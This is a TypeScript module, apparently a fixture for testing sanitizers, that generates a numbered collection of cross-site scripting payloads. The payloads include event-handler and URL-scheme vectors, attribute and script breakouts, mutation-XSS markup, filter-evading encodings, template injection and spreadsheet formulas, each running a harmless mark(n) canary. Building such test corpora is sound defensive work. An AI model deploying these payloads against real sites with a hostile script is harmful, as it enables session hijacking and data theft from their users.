/** A text that would run `mark(number)` in a page that shows it carelessly. */
export interface Vector {
  readonly number: number;
  /** Where it would break out of, or what it hides behind. */
  readonly kind: string;
  readonly text: string;
}

type Grammar = (call: string) => Readonly<Record<string, readonly string[]>>;

const events = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onbegin',
  'onanimationstart',
  'onpointerenter',
  'onclick',
];

/** Elements that fire an event by themselves, with what they need for it. */
const selfFiring: readonly [element: string, event: string][] = [
  ['<img src=x EVENT>', 'onerror'],
  ['<img srcset="x 1x" EVENT>', 'onerror'],
  ['<image src=x EVENT>', 'onerror'],
  ['<video><source EVENT></video>', 'onerror'],
  ['<audio src=x EVENT></audio>', 'onerror'],
  ['<input type=image src=x EVENT>', 'onerror'],
  ['<object data=x EVENT></object>', 'onerror'],
  ['<link rel=stylesheet href=x EVENT>', 'onerror'],
  ['<script src=x EVENT></script>', 'onerror'],
  ['<svg EVENT></svg>', 'onload'],
  ['<svg><animate attributeName=x dur=1s EVENT /></svg>', 'onbegin'],
  ['<svg><set attributeName=x EVENT /></svg>', 'onbegin'],
  ['<body EVENT>', 'onload'],
  ['<iframe src=about:blank EVENT></iframe>', 'onload'],
  ['<style EVENT></style>', 'onload'],
  ['<details open EVENT>x</details>', 'ontoggle'],
  ['<input autofocus EVENT>', 'onfocus'],
  ['<a href=# autofocus EVENT>x</a>', 'onfocus'],
  ['<p tabindex=1 autofocus EVENT>x</p>', 'onfocus'],
  ['<marquee EVENT>x</marquee>', 'onstart'],
  ['<p style="animation: spin 1s" EVENT>x</p>', 'onanimationstart'],
  ['<math><mi EVENT>x</mi></math>', 'onpointerenter'],
];

/** Ways of writing a handler that filters of words overlook. */
const handlers = (event: string, call: string): string[] => [
  `${event}=${call}`,
  `${event}="${call}"`,
  `${event.toUpperCase()}='${call}'`,
  `${event}\u000c=\n${call}`,
  `/${event}=${call}//`,
  `${event}=${[...call].map((sign) => `&#${sign.codePointAt(0)};`).join('')}`,
  `x${event}=0 ${event}=&#x6d&#x61&#x72&#x6b${call.slice(4)}`,
];

const schemes = (call: string): string[] => [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  `java\tscript:${call}`,
  `java\nscript:${call}`,
  `\u0001javascript:${call}`,
  `  javascript:${call}`,
  `javascript&colon;${call}`,
  `&#106;avascript:${call}`,
  `&#x6A&#x61vascript:${call}`,
  `javascript://example.com/%0a${call}`,
  `vbscript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `data:text/html;base64,${Buffer.from(`<script>${call}</script>`).toString('base64')}`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${call}'/>`,
  `blob:javascript:${call}`,
];

const places = [
  '<a href="URL">x</a>',
  '<iframe src="URL"></iframe>',
  '<form action="URL"><button>x</button></form>',
  '<button formaction="URL" form=f>x</button>',
  '<svg><a xlink:href="URL"><text y=20>x</text></a></svg>',
  '<math><mtext href="URL">x</mtext></math>',
  '<base href="URL">',
  '<meta http-equiv=refresh content="0;url=URL">',
  '<object data="URL"></object>',
  '<img src="URL">',
];

/** Each makes the texts of one context: what is around it is closed, or mistaken for something else. */
const grammars: readonly Grammar[] = [
  (call) => ({
    event: selfFiring.flatMap(([tag, event]) =>
      handlers(event, call).map((one) => tag.replace('EVENT', one)),
    ),
  }),
  (call) => ({
    address: schemes(call).flatMap((url) => places.map((place) => place.replace('URL', url))),
    'bare address': schemes(call),
  }),
  (call) => ({
    attribute: events.flatMap((event) =>
      ['"', "'", '`', '&quot;', '\\"'].map(
        (quote) => `${quote} autofocus tabindex=1 ${event}=${call} x=${quote}`,
      ),
    ),
    'closed attribute': [
      '">',
      "'>",
      '`>',
      '">-->',
      '"></textarea>',
      '"></title>',
      '"></option></select>',
    ].map((end) => `${end}<img src=x onerror=${call}>`),
  }),
  (call) => ({
    script: [
      ...['</script>', '</ScRiPt >', '</script\u000c>', '<!--<script>', ']]>'].map(
        (end) => `${end}<script>${call}</script>`,
      ),
      ...['";', "';", '\\";', '`;', '${', '\u2028', '\u2029', '*/'].map((end) => `${end}${call}//`),
      `"-${call}-"`,
      `{"__proto__":{"innerHTML":"<img src=x onerror=${call}>"}}`,
    ],
    'a tag in a tag': [
      '<scr<script>ipt>',
      '<<script>',
      '<script/x>',
      '<script\u0000>',
      '<script >',
      '<svg><script>',
      '<svg><script href="data:,',
    ].map((tag) => `${tag}${call}</script>`),
    style: [
      `<style>@import "javascript:${call}";</style>`,
      `<p style="background:url(javascript:${call})">x</p>`,
      `<p style="width:expression(${call})">x</p>`,
      `<p style="behavior:url(#x);-moz-binding:url(//foreign.example/x)">x</p>`,
      `</style><img src=x onerror=${call}>`,
      `<link rel=stylesheet href="//foreign.example/${call}">`,
    ],
    mutation: [
      ...['mtext', 'mi', 'mo', 'ms', 'mn'].map(
        (tag) =>
          `<math><${tag}><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${call}&gt;">`,
      ),
      ...['title', 'desc', 'foreignObject'].map(
        (tag) => `<svg><${tag}><style><img title="</style><img src=x onerror=${call}>"></${tag}></svg>`,
      ),
      ...[
        'noscript',
        'noembed',
        'noframes',
        'xmp',
        'iframe',
        'plaintext',
        'template',
        'textarea',
        'title',
      ].map((tag) => `<${tag}><p title="</${tag}><img src=x onerror=${call}>"></${tag}>`),
      `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
      `<svg></p><style><a id="</style><img src=x onerror=${call}>">`,
      `<p><b><i><a href="x"><table><td></a><img src=x onerror=${call}></td></table>`,
      `<!--><img src=x onerror=${call}>-->`,
      `<![CDATA[<img src=x onerror=${call}>]]>`,
      `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${call}</x:script>`,
    ],
  }),
  (call) => ({
    encoded: [
      (text: string) => encodeURIComponent(text),
      (text: string) => encodeURIComponent(encodeURIComponent(text)),
      (text: string) => text.replace(/[<>"]/g, (sign) => `&#${sign.codePointAt(0)};`),
      (text: string) => text.replace(/[<>"]/g, (sign) => `&amp;#${sign.codePointAt(0)};`),
      (text: string) => text.replace(/[<>"]/g, (sign) => `\\u00${sign.codePointAt(0)?.toString(16)}`),
      (text: string) => text.replace(/[<>"]/g, (sign) => `\\x${sign.codePointAt(0)?.toString(16)}`),
      (text: string) => text.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
      (text: string) => text.replaceAll('<', '\u2039').replaceAll('>', '\u203a'),
      (text: string) => text.replaceAll('s', '\u017f').replaceAll('i', '\u0131'),
      (text: string) => `+ADw-${text.slice(1, -1)}+AD4-`,
      (text: string) => `\ufeff\u202e${text}`,
      (text: string) => text.replaceAll('<', '<\u0301'),
    ].flatMap((encode) => [`<script>${call}</script>`, `<img src=x onerror=${call}>`].map(encode)),
    template: ['{{', '${', '<%=', '#{', '[[', '{{{', '{%'].map(
      (open) => `${open}constructor.constructor('${call}')()}}`,
    ),
    markdown: [
      `[x](javascript:${call})`,
      `![x](x"onerror="${call})`,
      `<javascript:${call}>`,
      `[x]: javascript:${call}`,
      `\`\`\`<img src=x onerror=${call}>\`\`\``,
    ],
    formula: ['=', '+', '-', '@'].map((sign) => `${sign}HYPERLINK("javascript:${call}","x")`),
  }),
];

/** All texts of the grammars, each with a number of its own, in the same order every time. */
export function scriptVectors(): Vector[] {
  const shapes = grammars.flatMap((grammar) =>
    Object.entries(grammar('CALL')).flatMap(([kind, texts]) => texts.map((_, at) => ({ grammar, kind, at }))),
  );
  return shapes.map(({ grammar, kind, at }, number) => ({
    number,
    kind,
    text: grammar(`mark(${number})`)[kind]?.[at] ?? '',
  }));
}
